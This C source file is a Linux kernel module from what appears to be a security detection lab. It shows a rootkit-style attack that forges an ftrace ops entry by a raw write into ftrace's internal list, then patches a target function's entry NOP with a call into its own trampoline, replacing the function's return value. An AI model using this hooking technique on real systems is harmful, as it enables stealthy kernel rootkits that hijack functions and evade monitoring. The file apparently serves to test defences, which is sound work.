// SPDX-License-Identifier: GPL-2.0
/* Lab attack: an ftrace ops forged and linked into ftrace's list by a plain
 * memory write (no ftrace API call), naming this module's code its
 * trampoline; then a `call` to that code written over a function's ftrace
 * entry (a NOP), as ftrace would write a call to a real trampoline. The
 * code drops the return address and jumps to a replacement, which returns
 * 4242 to the function's caller. */
#include <linux/module.h>
#include <linux/ftrace.h>
#include <linux/ptrace.h>
#include <linux/string.h>
#include "vigil_lab.h"

static unsigned long ops_list;
module_param(ops_list, ulong, 0400);
MODULE_PARM_DESC(ops_list, "address of ftrace_ops_list, from /proc/kallsyms");
static unsigned long target;
module_param(target, ulong, 0400);
MODULE_PARM_DESC(target, "address of the function to hook, from /proc/kallsyms");
static unsigned long hits;
module_param(hits, ulong, 0444);

long vigil_forged_replacement(const struct pt_regs *regs);
long vigil_forged_replacement(const struct pt_regs *regs)
{
	return 4242;
}

void vigil_forged_tramp(void);
asm(".pushsection .text\n"
    ".global vigil_forged_tramp\n"
    "vigil_forged_tramp:\n"
    "	addq $8, %rsp\n"
    "	jmp vigil_forged_replacement\n"
    ".popsection\n");

static void notrace counted(unsigned long ip, unsigned long parent_ip,
			    struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
}

static struct ftrace_ops forged = { .func = counted };

static int __init hook_init(void)
{
	static const u8 endbr[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	struct ftrace_ops **list = (struct ftrace_ops **)ops_list;
	unsigned long site = target;
	u8 call[5];
	s64 rel;

	if (!ops_list || !target)
		return -EINVAL;
	if (!memcmp((void *)site, endbr, sizeof(endbr)))
		site += sizeof(endbr);
	if (memcmp((void *)site, nop5, sizeof(nop5)))
		return -ENOEXEC;
	rel = (s64)(unsigned long)vigil_forged_tramp - (s64)(site + sizeof(call));
	if (rel != (s32)rel)
		return -ERANGE;
	call[0] = 0xe8;
	memcpy(&call[1], &(s32){ (s32)rel }, 4);
	forged.func_hash = &forged.local_hash;
	forged.trampoline = (unsigned long)vigil_forged_tramp;
	forged.trampoline_size = 16;
	forged.next = READ_ONCE(*list);
	/* Linked first: a plain write, as a rootkit writing kernel data does. */
	smp_wmb();
	WRITE_ONCE(*list, &forged);
	LAB_WITH_WP_CLEARED(memcpy((void *)site, call, sizeof(call)));
	pr_info("vigil-lab: forged ftrace ops at %px, call at %px\n", &forged, (void *)site);
	return 0;
}
module_init(hook_init);
MODULE_LICENSE("GPL");
